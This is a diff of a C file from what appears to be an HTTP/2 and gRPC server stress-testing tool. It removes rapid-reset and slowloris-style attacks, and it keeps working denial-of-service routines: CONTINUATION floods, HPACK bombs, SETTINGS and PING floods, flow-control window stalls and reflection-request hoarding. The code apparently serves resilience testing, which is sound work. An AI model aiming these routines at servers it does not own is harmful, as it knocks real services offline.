@@ -1,91 +1,30 @@
+/* moves - attacks by what one connection says. */
 #include "attacks/siege/moves.h"
 
 #include <stdlib.h>
 #include <string.h>
-#include <sys/resource.h>
 #include <unistd.h>
 
-#include "attacks/siege/foe.h"
+#include "attacks/siege/play.h"
 #include "base/util.h"
 #include "wire/compress.h"
 
-static const char chat[] = "/chat.ChatService/Chat",
-                  send_message[] = "/chat.ChatService/SendMessage";
-
-static bool goes_on(const struct move *m, const struct foe *f)
-{
-    return !f->closed && now_ms() < m->until_ms;
-}
-
-/* One connection, on which a step is taken until somebody ends it. */
-static void besiege(struct move *m, bool deaf, void (*begin)(struct foe *f),
-                    void (*step)(struct foe *f, struct move *m))
-{
-    struct foe f;
-
-    m->foes++;
-    m->until_ms = now_ms() + m->lasts_ms;
-    if (foe_begin(&f, m->victim->port, m->victim->tls)) {
-        foe_send(&f);
-        foe_listen(&f, 50);
-        f.deaf = deaf;
-        if (begin)
-            begin(&f);
-        while (goes_on(m, &f)) {
-            step(&f, m);
-            if (!foe_send(&f))
-                break;
-        }
-        f.deaf = false;
-        foe_listen(&f, 500);
-    }
-    m->left += f.closed;
-    foe_end(&f);
-}
-
-static uint32_t next_stream(const struct move *m)
-{
-    return 2 * m->sent + 1;
-}
-
-/* ---- streams that come and go --------------------------------------------------------------- */
-
-static void open_and_reset(struct foe *f, struct move *m)
-{
-    for (int i = 0; i < 50; i++, m->sent++) {
-        foe_request(f, next_stream(m), chat);
-        vitro_frame_write_rst_stream(&f->out, next_stream(m), H2_CANCEL);
-    }
-}
-
-void attack_rapid_reset(struct move *m)
-{
-    besiege(m, false, NULL, open_and_reset);
-}
-
-/* A window that grows over 2^31 - 1 is a mistake of its stream (RFC 9113, 6.9.1). */
-static void open_and_overflow(struct foe *f, struct move *m)
-{
-    for (int i = 0; i < 50; i++, m->sent++) {
-        foe_request(f, next_stream(m), chat);
-        vitro_frame_write_window_update(&f->out, next_stream(m), INT32_MAX);
-    }
-}
-
-void attack_made_you_reset(struct move *m)
-{
-    besiege(m, false, NULL, open_and_overflow);
-}
+static const char send_message[] = "/chat.ChatService/SendMessage",
+                  notifications[] = "/chat.ChatService/GetNotifications",
+                  reflection[] = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
 
 /* ---- header blocks -------------------------------------------------------------------------- */
 
-static void begin_endless(struct foe *f)
+static bool begin_endless(struct foe *f, const struct victim *v)
 {
     struct buf block;
 
-    foe_block(f, &block, chat);
+    if (!foe_begin(f, v))
+        return false;
+    foe_block(f, &block, play_chat);
     vitro_frame_write_headers(&f->out, 1, 0, vitro_buf_bytes(&block), NULL);
     vitro_buf_done(&block);
+    return true;
 }
 
 static void go_on_endless(struct foe *f, struct move *m)
@@ -102,7 +41,7 @@ static void go_on_endless(struct foe *f, struct move *m)
 
 void attack_continuations(struct move *m)
 {
-    besiege(m, false, begin_endless, go_on_endless);
+    play_alone(m, begin_endless, go_on_endless);
 }
 
 /* A request, then the same bytes until there are 16 KB. */
@@ -110,7 +49,7 @@ static void send_padded_block(struct foe *f, struct move *m, const char *bytes, 
 {
     struct buf block;
 
-    foe_block(f, &block, chat);
+    foe_block(f, &block, play_chat);
     if (n == 1 && m->sent == 0) {
         char value[4001];
 
@@ -121,7 +60,7 @@ static void send_padded_block(struct foe *f, struct move *m, const char *bytes, 
     }
     while (block.len < 16384)
         vitro_buf_append(&block, bytes, n);
-    vitro_frame_write_block(&f->out, next_stream(m), 0, vitro_buf_bytes(&block), FRAME_DEFAULT_MAX,
+    vitro_frame_write_block(&f->out, foe_next(f), 0, vitro_buf_bytes(&block), FRAME_DEFAULT_MAX,
                             NULL);
     vitro_buf_done(&block);
     m->sent++;
@@ -134,7 +73,7 @@ static void send_bomb(struct foe *f, struct move *m)
 
 void attack_hpack_bomb(struct move *m)
 {
-    besiege(m, false, NULL, send_bomb);
+    play_alone(m, foe_begin, send_bomb);
 }
 
 static void send_nameless(struct foe *f, struct move *m)
@@ -144,10 +83,19 @@ static void send_nameless(struct foe *f, struct move *m)
 
 void attack_nameless(struct move *m)
 {
-    besiege(m, false, NULL, send_nameless);
+    play_alone(m, foe_begin, send_nameless);
 }
 
 /* ---- floods --------------------------------------------------------------------------------- */
+
+/* It asks, and does not read the answers. */
+static bool begin_deaf(struct foe *f, const struct victim *v)
+{
+    if (!foe_begin(f, v))
+        return false;
+    f->deaf = true;
+    return true;
+}
 
 static void send_settings(struct foe *f, struct move *m)
 {
@@ -157,7 +105,7 @@ static void send_settings(struct foe *f, struct move *m)
 
 void attack_settings(struct move *m)
 {
-    besiege(m, true, NULL, send_settings);
+    play_alone(m, begin_deaf, send_settings);
 }
 
 static void send_pings(struct foe *f, struct move *m)
@@ -168,12 +116,15 @@ static void send_pings(struct foe *f, struct move *m)
 
 void attack_pings(struct move *m)
 {
-    besiege(m, true, NULL, send_pings);
+    play_alone(m, begin_deaf, send_pings);
 }
 
-static void begin_call(struct foe *f)
+static bool begin_call(struct foe *f, const struct victim *v)
 {
-    foe_request(f, 1, chat);
+    if (!foe_begin(f, v))
+        return false;
+    foe_open(f, play_chat);
+    return true;
 }
 
 static void send_empty_data(struct foe *f, struct move *m)
@@ -184,7 +135,7 @@ static void send_empty_data(struct foe *f, struct move *m)
 
 void attack_empty_data(struct move *m)
 {
-    besiege(m, false, begin_call, send_empty_data);
+    play_alone(m, begin_call, send_empty_data);
 }
 
 /* ---- windows -------------------------------------------------------------------------------- */
@@ -192,16 +143,18 @@ void attack_empty_data(struct move *m)
 /* {1: "you"}: a reply of some hundred bytes. */
 static const vitro_bytes hello = { (const uint8_t *)"\x0a\x03you", 5 };
 
-static void shut_window(struct foe *f)
+static bool begin_shut_window(struct foe *f, const struct victim *v)
 {
+    if (!foe_begin(f, v))
+        return false;
     foe_setting(f, SETTING_INITIAL_WINDOW_SIZE, 0);
+    return true;
 }
 
 static void ask_a_hundred(struct foe *f, struct move *m)
 {
     if (m->sent < 100) {
-        foe_request(f, next_stream(m), "/chat.ChatService/GetNotifications");
-        foe_message(f, next_stream(m), false, hello);
+        foe_message(f, foe_open(f, notifications), false, hello);
         m->sent++;
     } else {
         foe_listen(f, 100);
@@ -210,14 +163,15 @@ static void ask_a_hundred(struct foe *f, struct move *m)
 
 void attack_zero_window(struct move *m)
 {
-    besiege(m, false, shut_window, ask_a_hundred);
+    play_alone(m, begin_shut_window, ask_a_hundred);
 }
 
-static void begin_thirsty(struct foe *f)
+static bool begin_thirsty(struct foe *f, const struct victim *v)
 {
-    shut_window(f);
-    foe_request(f, 1, "/chat.ChatService/GetNotifications");
-    foe_message(f, 1, false, hello);
+    if (!begin_shut_window(f, v))
+        return false;
+    foe_message(f, foe_open(f, notifications), false, hello);
+    return true;
 }
 
 static void sip(struct foe *f, struct move *m)
@@ -228,41 +182,38 @@ static void sip(struct foe *f, struct move *m)
 
 void attack_byte_window(struct move *m)
 {
-    besiege(m, false, begin_thirsty, sip);
+    play_alone(m, begin_thirsty, sip);
 }
 
-static void open_wide(struct foe *f)
+/* {4: "grpc.reflection.v1.ServerReflection"}: a question about a file of two thousand bytes. */
+static const uint8_t asked[] = "\x22\x23"
+                               "grpc.reflection.v1.ServerReflection";
+static const vitro_bytes question = { asked, sizeof asked - 1 };
+
+/* As many questions as there is window for; a system that takes no answers but a few. */
+static bool begin_shut(struct foe *f, const struct victim *v)
 {
+    if (!foe_begin_narrow(f, v))
+        return false;
     foe_setting(f, SETTING_INITIAL_WINDOW_SIZE, INT32_MAX);
     vitro_frame_write_window_update(&f->out, 0, INT32_MAX - FRAME_DEFAULT_WINDOW);
-}
-
-/* {4: "chat.ChatService"}: a question of 23 bytes about a file of a thousand. */
-static const vitro_bytes question = { (const uint8_t *)"\x22\x10"
-                                                       "chat.ChatService",
-                                      18 };
-static const char reflection[] = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
-
-/* Sixty KB of questions, whose answers nobody reads. */
-static void ask_much(struct foe *f, struct move *m)
-{
-    if (m->sent == 0)
-        foe_request(f, 1, reflection);
-    for (; m->sent < 2600; m->sent++)
+    foe_open(f, reflection);
+    while (f->window > 100)
         foe_data(f, 1, question);
-    usleep(100000);
+    f->deaf = true;
+    return foe_send(f);
 }
 
 void attack_closed_tcp(struct move *m)
 {
-    besiege(m, true, open_wide, ask_much);
+    play_crowd(m, 20, begin_shut, 100);
 }
 
 /* Questions without end, and no window for the answers. */
 static void ask_on(struct foe *f, struct move *m)
 {
-    if (m->sent == 0)
-        foe_request(f, 1, reflection);
+    if (f->streams == 0)
+        foe_open(f, reflection);
     for (int i = 0; i < 100 && MIN(f->window, f->stream_window) > 100; i++, m->sent++)
         foe_data(f, 1, question);
     foe_listen(f, 1);
@@ -270,7 +221,7 @@ static void ask_on(struct foe *f, struct move *m)
 
 void attack_hoard(struct move *m)
 {
-    besiege(m, false, shut_window, ask_on);
+    play_alone(m, begin_shut_window, ask_on);
 }
 
 /* The same with what is said returned. */
@@ -278,8 +229,8 @@ static void talk_on(struct foe *f, struct move *m)
 {
     static const uint8_t text[1000] = { 0x12, 0x80 | (997 & 0x7f), 997 >> 7 };
 
-    if (m->sent == 0)
-        foe_request(f, 1, chat);
+    if (f->streams == 0)
+        foe_open(f, play_chat);
     for (int i = 0; i < 100 && MIN(f->window, f->stream_window) > 2000; i++, m->sent++)
         foe_data(f, 1, (vitro_bytes){ text, sizeof text });
     foe_listen(f, 1);
@@ -287,7 +238,7 @@ static void talk_on(struct foe *f, struct move *m)
 
 void attack_echo(struct move *m)
 {
-    besiege(m, false, shut_window, talk_on);
+    play_alone(m, begin_shut_window, talk_on);
 }
 
 /* ---- messages ------------------------------------------------------------------------------- */
@@ -299,8 +250,7 @@ static bool heavy_compressed;
 
 static void send_heavy(struct foe *f, struct move *m)
 {
-    foe_request(f, next_stream(m), heavy_path);
-    foe_message(f, next_stream(m), heavy_compressed, heavy);
+    foe_message(f, foe_open(f, heavy_path), heavy_compressed, heavy);
     m->sent++;
     foe_listen(f, 1);
 }
@@ -310,7 +260,7 @@ static void weigh_down(struct move *m, const char *path, bool compressed, struct
     heavy = vitro_buf_bytes(message);
     heavy_path = path;
     heavy_compressed = compressed;
-    besiege(m, false, NULL, send_heavy);
+    play_alone(m, foe_begin, send_heavy);
     vitro_buf_done(message);
 }
 
@@ -347,74 +297,5 @@ void attack_empty_messages(struct move *m)
     vitro_buf_init(&message, NULL, SIZE_MAX);
     for (size_t i = 0; i < SIZE; i += 2)
         vitro_buf_append(&message, "\x2a\0", 2);
-    weigh_down(m, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", false, &message);
-}
-
-/* ---- many connections ----------------------------------------------------------------------- */
-
-/* So many foes that say this first; then all wait. */
-static void crowd(struct move *m, unsigned n, bool whole, const void *bytes, size_t len)
-{
-    struct foe *foes = calloc(n, sizeof *foes);
-
-    m->until_ms = now_ms() + m->lasts_ms;
-    for (unsigned i = 0; i < n; i++, m->foes++) {
-        struct foe *f = &foes[i];
-
-        if (!(whole ? foe_begin(f, m->victim->port, false) : foe_dial(f, m->victim->port)))
-            break;
-        if (len)
-            vitro_buf_append(&f->out, bytes, len);
-        foe_send(f);
-    }
-    while (now_ms() < m->until_ms)
-        usleep(50000);
-    for (unsigned i = 0; i < m->foes; i++) {
-        foe_listen(&foes[i], 1);
-        m->left += foes[i].closed;
-        foe_end(&foes[i]);
-    }
-    free(foes);
-}
-
-void attack_idle(struct move *m)
-{
-    struct rlimit files;
-
-    getrlimit(RLIMIT_NOFILE, &files);
-    crowd(m, (unsigned)MIN(files.rlim_cur - 100, (rlim_t)10000), true, NULL, 0);
-}
-
-void attack_slow_preface(struct move *m)
-{
-    crowd(m, 100, false, vitro_frame_preface, 10);
-}
-
-void attack_slow_handshake(struct move *m)
-{
-    static const char hello_begins[] = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";
-
-    crowd(m, 100, false, hello_begins, sizeof hello_begins - 1);
-}
-
-static void drip(struct foe *f, struct move *m)
-{
-    struct buf block, frame;
-
-    foe_block(f, &block, chat);
-    vitro_buf_init(&frame, NULL, SIZE_MAX);
-    vitro_frame_write_block(&frame, 1, 0, vitro_buf_bytes(&block), FRAME_DEFAULT_MAX, NULL);
-    for (size_t i = 0; i < frame.len && goes_on(m, f); i++, m->sent++) {
-        vitro_buf_append(&f->out, frame.ptr + i, 1);
-        foe_send(f);
-        foe_listen(f, 10);
-    }
-    vitro_buf_done(&block);
-    vitro_buf_done(&frame);
-    m->until_ms = 0;
-}
-
-void attack_slow_headers(struct move *m)
-{
-    besiege(m, false, NULL, drip);
+    weigh_down(m, reflection, false, &message);
 }
